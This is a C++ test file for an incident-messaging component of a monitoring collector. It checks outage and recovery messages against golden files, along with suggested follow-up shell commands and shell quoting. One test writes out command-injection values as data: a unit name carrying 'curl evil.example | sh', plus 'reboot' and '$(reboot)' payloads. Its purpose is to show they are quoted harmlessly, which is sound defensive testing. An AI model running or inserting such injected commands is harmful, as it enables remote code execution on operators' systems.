// Messages of outages and their ends, against golden files.
#include "collector/incidents/message.h"

#include "collector/incidents/message_words.h"
#include "collector/incidents/next_command.h"
#include "gmock/gmock.h"
#include "tests/collector/incidents/golden.h"
#include "tests/collector/incidents/message_story.h"

namespace faultline::incidents {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;

const CheckId kUnit{"unit", "mysql.service", ""};
const CheckId kListener{"listener", "3306", ""};
const CheckId kPort{"port", "10.0.2.10:3306", ""};
const CheckId kCertificate{"certificate", "/etc/letsencrypt/live/app/fullchain.pem", ""};

Story StoppingUnit() {
  Story story;
  story.See("db-1", kUnit, "database", State::kCritical, "UNIT_STOPPING",
            "mysql.service is being stopped by a systemctl request (job 4711); it did not crash",
            {"systemd stop job 4711, no start queued"});
  story.Fire("db-1", kUnit);
  return story;
}

Story StoppedUnit() {
  Story story;
  story.See("db-1", kUnit, "database", State::kCritical, "UNIT_INACTIVE",
            "mysql.service was stopped by a systemctl request; it did not crash",
            {"systemd stop job 4711, no start queued"});
  story.Fire("db-1", kUnit);
  story.See("db-1", kListener, "database", State::kCritical, "NOT_LISTENING",
            "nothing listens on 3306");
  story.SeePort("app-1", State::kCritical, "REFUSED", "10.0.2.10:3306 refused the connection");
  return story;
}

TEST(MessageTest, AUnitThatIsBeingStopped) {
  ExpectGolden("unit_stopping", StoppingUnit().Message());
}

TEST(MessageTest, AUnitThatWasStoppedWithEverythingThatFollows) {
  ExpectGolden("unit_inactive", StoppedUnit().Message());
}

TEST(MessageTest, AUnitThatFailed) {
  Story story;
  story.See("db-1", kUnit, "database", State::kCritical, "UNIT_FAILED",
            "mysql.service was killed by SIGKILL",
            {"systemd result signal; no stop was asked for"});
  story.Fire("db-1", kUnit);
  story.SeePort("app-1", State::kCritical, "REFUSED", "10.0.2.10:3306 refused the connection");
  ExpectGolden("unit_failed", story.Message());
}

TEST(MessageTest, AUnitThatWasKilledForLackOfMemory) {
  Story story;
  story.See("db-1", kUnit, "database", State::kCritical, "UNIT_OOM_KILLED",
            "mysql.service was killed by the kernel for lack of memory (OOM)",
            {"systemd result oom-kill; no stop was asked for"});
  story.Fire("db-1", kUnit);
  ExpectGolden("unit_oom_killed", story.Message());
}

TEST(MessageTest, ARestartThatOutlastedItsGrace) {
  Story story;
  story.See("db-1", kUnit, "database", State::kWarning, "UNIT_RESTARTING",
            "mysql.service is being restarted", {"systemd restart job 4712"});
  rules::Alert& alert = story.Fire("db-1", kUnit);
  alert.decision = rules::Decision::kGraceOver;
  alert.fired_at = kBegan + Span::Seconds(30);
  ExpectGolden("restart_over_grace", story.Message());
}

TEST(MessageTest, ThePortIsGoneWhileTheUnitRuns) {
  Story story;
  story.See("db-1", kListener, "database", State::kCritical, "NOT_LISTENING",
            "nothing listens on 3306");
  story.Fire("db-1", kListener);
  story.SeePort("app-1", State::kCritical, "REFUSED", "10.0.2.10:3306 refused the connection");
  ExpectGolden("listener_gone", story.Message());
}

TEST(MessageTest, TheDatabaseListensOnLoopbackOnly) {
  Story story;
  story.See("db-1", kListener, "database", State::kCritical, "LOOPBACK_ONLY",
            "listens on 127.0.0.1:3306 only: other hosts cannot connect; look at bind-address");
  story.Fire("db-1", kListener);
  ExpectGolden("listener_loopback", story.Message());
}

TEST(MessageTest, ThePathIsBlockedWhileBothEndsAreWell) {
  Story story;
  story.AddHost("app-2", "10.0.1.21", "");
  for (const char* host : {"app-1", "app-2"}) {
    story.SeePort(host, State::kCritical, "TIMEOUT", "10.0.2.10:3306 does not answer",
                  {"5 SYN to 10.0.2.10:3306 unanswered over 310ms; normally 0.4ms"});
  }
  story.Fire("app-1", kPort);
  story.Fire("app-2", kPort);
  ExpectGolden("port_timeout", story.Message());
}

TEST(MessageTest, ThePortRefusesAndNobodyWatchesTheOtherEnd) {
  Story story;
  story.Host("db-1").addresses.clear();
  story.SeePort("app-1", State::kCritical, "REFUSED", "10.0.2.10:3306 refused the connection");
  story.Fire("app-1", kPort);
  ExpectGolden("port_refused_alone", story.Message());
}

TEST(MessageTest, TheOtherEndsAgentIsAwayToo) {
  Story story;
  story.Host("db-1").link = model::LinkState::kSilent;
  story.SeePort("app-1", State::kCritical, "TIMEOUT", "10.0.2.10:3306 does not answer");
  story.Fire("app-1", kPort);
  ExpectGolden("port_timeout_agent_away", story.Message());
}

TEST(MessageTest, ACertificateExpiresSoon) {
  Story story;
  story.See("app-1", kCertificate, "certificate", State::kWarning, "EXPIRES_SOON",
            "the certificate of app.example.com expires in 13 days, at 2026-12-05 09:00:00.000 "
            "UTC");
  story.Fire("app-1", kCertificate, rules::Severity::kWarning);
  ExpectGolden("certificate_expires_soon", story.Message());
}

TEST(MessageTest, ACertificateHasExpired) {
  Story story;
  const CheckId own{"certificate", "/etc/nginx/it's mine.pem", ""};
  story.Host("app-1").instance_id = "";
  story.See("app-1", own, "certificate", State::kCritical, "EXPIRED",
            "the certificate of app.example.com expired 5m ago, at 2026-11-22 03:09:00.000 UTC");
  story.Fire("app-1", own);
  ExpectGolden("certificate_expired", story.Message());
}

TEST(MessageTest, AUnitOfAHost) {
  Story story;
  const CheckId cron{"unit", "cron.service", ""};
  story.Host("db-1").instance_id = "";
  story.See("db-1", cron, "host db-1", State::kCritical, "UNIT_CRASH_LOOP",
            "cron.service keeps ending: systemd restarted it 5 times within a minute",
            {"systemd counts 5 automatic restarts"});
  story.Fire("db-1", cron);
  ExpectGolden("host_unit", story.Message());
}

TEST(MessageTest, AnAgentIsSilent) {
  Story story;
  const CheckId agent{"agent", "db-1", ""};
  story.See("db-1", agent, "agent db-1", State::kWarning, "AGENT_SILENT",
            "no heartbeat for more than 2.2s");
  story.Fire("db-1", agent, rules::Severity::kWarning);
  ExpectGolden("agent_silent", story.Message({"", ""}));
}

TEST(MessageTest, AllIsWellAgain) {
  Story story = StoppedUnit();
  story.See("db-1", kUnit, "database", State::kOk, "", "mysql.service is active");
  story.Resolve(Span::Millis(42'200));
  ExpectGolden("resolved", story.Message());
}

TEST(MessageTest, AHostsUnitIsWellAgain) {
  Story story;
  const CheckId cron{"unit", "cron.service", ""};
  story.See("db-1", cron, "host db-1", State::kCritical, "UNIT_FAILED", "cron.service failed");
  story.Fire("db-1", cron);
  story.See("db-1", cron, "host db-1", State::kOk, "", "cron.service is active");
  story.Resolve(Span::Seconds(3 * 3600 + 25 * 60 + 7));
  ExpectGolden("resolved_host_unit", story.Message());
}

TEST(MessageTest, ACheckThatWasRemovedIsNotCalledWell) {
  Story story = StoppedUnit();
  story.Resolve(Span::Seconds(600));
  story.incident().alerts[0].state = rules::AlertState::kWithdrawn;
  ExpectGolden("withdrawn", story.Message());
}

TEST(MessageTest, WhatAnAgentSaidOfItselfBeforeItsRestartIsOver) {
  Story story;
  const CheckId identity{"identity", "agent", ""};
  story.See("db-1", identity, "agent db-1", State::kWarning, "JOIN_REFUSED",
            "the collector refuses this host");
  story.Fire("db-1", identity);
  story.Resolve(Span::Seconds(600));
  story.incident().alerts[0].state = rules::AlertState::kWithdrawn;
  ExpectGolden("agents_own", story.Message());
}

TEST(MessageTest, AnOutageThatWasLearnedOfAfterItsEnd) {
  Story story = StoppedUnit();
  story.See("db-1", kUnit, "database", State::kOk, "", "mysql.service is active");
  story.Resolve(Span::Seconds(30));
  story.incident().late = true;
  story.incident().opened_at = kBegan + Span::Seconds(75);
  ExpectGolden("late_resolved", story.Message());
}

TEST(MessageTest, AnOutageThatWasLearnedOfLateAndGoesOn) {
  Story story = StoppedUnit();
  story.incident().late = true;
  story.incident().opened_at = kBegan + Span::Seconds(75);
  ExpectGolden("late_open", story.Message());
}

TEST(MessageTest, TheTitleIsTheFirstLine) {
  const Story story = StoppedUnit();
  EXPECT_THAT(story.Message(), StartsWith(story.Title() + "\n"));
}

TEST(MessageTest, ManyImpactsAreCounted) {
  Story story = StoppedUnit();
  for (int i = 2; i <= 9; ++i) {
    const std::string name = "app-" + std::to_string(i);
    story.AddHost(name, "10.0.1.3" + std::to_string(i), "");
    story.SeePort(name, State::kCritical, "REFUSED", "10.0.2.10:3306 refused the connection");
  }
  EXPECT_THAT(story.Message(), HasSubstr("app-4 cannot connect to 10.0.2.10:3306 (refused); and 5 "
                                         "more\n"));
}

TEST(MessageTest, AnotherStacksTroubleIsNotToldHere) {
  Story story = StoppedUnit();
  model::Hosts hosts = story.hosts();
  auto foreign = std::make_shared<model::HostPicture>(*hosts.at({{"shop", "prod"}, "app-1"}));
  foreign->identity.id = {{"shop", "staging"}, "app-9"};
  hosts[foreign->identity.id] = foreign;
  EXPECT_THAT(RenderMessage(story.incident(), hosts, {}), Not(HasSubstr("app-9")));
}

TEST(MessageTest, HostileWordsFromAnAgentStayWords) {
  Story story;
  const CheckId evil{"unit", "x; curl evil.example | sh #.service", ""};
  story.Host("db-1").instance_id = "i-0; reboot";
  story.See("db-1", evil, "database", State::kCritical, "UNIT_INACTIVE",
            "line one\nCRITICAL other-stack: forged\x1b[2J", {"fact\nwith a line break"});
  story.Fire("db-1", evil);
  const std::string message = story.Message();
  EXPECT_THAT(message, HasSubstr("Do: aws ssm start-session --target 'i-0; reboot' --region"));
  EXPECT_THAT(message, HasSubstr("    sudo systemctl start 'x; curl evil.example | sh #'\n"));
  EXPECT_THAT(message, Not(HasSubstr("\nCRITICAL other-stack")));
  EXPECT_THAT(message, Not(HasSubstr("\x1b")));
  EXPECT_THAT(message, HasSubstr("fact with a line break"));
}

TEST(MessageTest, AnIncidentWithoutAlertsOrHostsStillHasItsLines) {
  Incident incident;
  incident.id = 7;
  incident.subject = "network";
  incident.since = kBegan;
  EXPECT_EQ(RenderMessage(incident, {}, {}),
            "CRITICAL : network in trouble.\nSince: 2026-11-22 03:14:07.412 UTC\nIncident 7");
}

TEST(CollectEvidenceTest, HoldsFactsWithHostAndTime) {
  Story story = StoppedUnit();
  story.Check("db-1", kUnit).evidence[0].at = kBegan - Span::Millis(5);
  const auto evidence = CollectEvidence(story.incident(), story.hosts());
  ASSERT_EQ(evidence.size(), 3u);
  EXPECT_EQ(evidence[0].host, "db-1");
  EXPECT_EQ(evidence[0].at, kBegan - Span::Millis(5));
  EXPECT_EQ(evidence[0].text, "systemd stop job 4711, no start queued");
  EXPECT_EQ(evidence[1].at, kBegan);
  EXPECT_EQ(evidence[1].text, "nothing listens on 3306");
  EXPECT_EQ(evidence[2].host, "app-1");
  EXPECT_EQ(evidence[2].text, "10.0.2.10:3306 refused the connection");
}

TEST(CollectEvidenceTest, IsKeptWhenAllIsWellAgainAndBounded) {
  Story story = StoppedUnit();
  for (int i = 0; i < 40; ++i) {
    story.Check("db-1", kUnit).evidence.push_back({"fact " + std::to_string(i), {}});
  }
  story.incident().evidence = CollectEvidence(story.incident(), story.hosts());
  EXPECT_EQ(story.incident().evidence.size(), 12u);
  story.See("db-1", kUnit, "database", State::kOk, "", "mysql.service is active");
  story.Resolve(Span::Seconds(1));
  EXPECT_EQ(CollectEvidence(story.incident(), story.hosts()).size(), 12u);
}

TEST(WordsTest, SpansAndTimesReadWell) {
  EXPECT_EQ(SpanInWords(Span::Millis(420)), "420 ms");
  EXPECT_EQ(SpanInWords(Span::Millis(42'900)), "42 s");
  EXPECT_EQ(SpanInWords(Span::Seconds(190)), "3 min 10 s");
  EXPECT_EQ(SpanInWords(Span::Seconds(180)), "3 min");
  EXPECT_EQ(SpanInWords(Span::Seconds(7500)), "2 h 5 min");
  EXPECT_EQ(SpanInWords(Span::Seconds(3 * 86400 + 7200)), "3 days 2 h");
  EXPECT_EQ(SpanInWords(Span::Seconds(-1)), "0 s");
  EXPECT_EQ(TimeInWords(kBegan, ""), "2026-11-22 03:14:07.412 UTC");
  EXPECT_EQ(TimeInWords(kBegan, "UTC"), "2026-11-22 03:14:07.412 UTC");
  EXPECT_EQ(TimeInWords(kBegan, "No/Such_Zone"), "2026-11-22 03:14:07.412 UTC");
  EXPECT_EQ(TimeInWords(kBegan, "Europe/Berlin"), "2026-11-22 03:14:07.412 UTC (04:14 Berlin)");
  EXPECT_EQ(TimeInWords(kBegan, "America/New_York"),
            "2026-11-22 03:14:07.412 UTC (21 Nov 22:14 New York)");
}

TEST(NextCommandTest, EveryReasonGetsWhatAPersonWouldType) {
  Story story;
  const auto commands = [&](const std::string& host, const CheckId& id, const std::string& reason) {
    story.incident().alerts.clear();
    story.Check(host, id).reason = reason;
    std::vector<std::string> lines = NextCommands(story.Fire(host, id), story.hosts());
    if (!lines.empty()) lines.erase(lines.begin());  // the login
    return lines;
  };
  EXPECT_THAT(commands("db-1", kUnit, "UNIT_CRASH_LOOP"),
              ElementsAre("sudo systemctl status mysql --no-pager",
                          "sudo journalctl -u mysql -n 50 --no-pager"));
  EXPECT_THAT(
      commands("db-1", kUnit, "PACKAGE_UPGRADE"),
      ElementsAre("sudo tail -n 30 /var/log/dpkg.log", "sudo systemctl status mysql --no-pager"));
  EXPECT_THAT(commands("app-1", kPort, "DNS_FAILED"), ElementsAre("getent hosts 10.0.2.10"));
  EXPECT_THAT(commands("app-1", kPort, "NET_UNREACHABLE"),
              ElementsAre("ip route get 10.0.2.10", "nc -vz -w 3 10.0.2.10 3306"));
  EXPECT_THAT(commands("app-1", kCertificate, "RENEWAL_FAILING"),
              ElementsAre("sudo certbot renew", "sudo systemctl reload nginx"));
  EXPECT_THAT(commands("app-1", {"unheard_of", "x", ""}, "STRANGE"), testing::IsEmpty());
}

TEST(NextCommandTest, ShellWordsCannotEndTheirQuotes) {
  EXPECT_EQ(ShellWord("mysql@1.service"), "mysql@1.service");
  EXPECT_EQ(ShellWord("a b"), "'a b'");
  EXPECT_EQ(ShellWord("it's"), "'it'\\''s'");
  EXPECT_EQ(ShellWord("$(reboot)"), "'$(reboot)'");
  EXPECT_EQ(ShellWord("a\nb"), "'a b'");
  EXPECT_EQ(ShellWord(""), "''");
}

}  // namespace
}  // namespace faultline::incidents
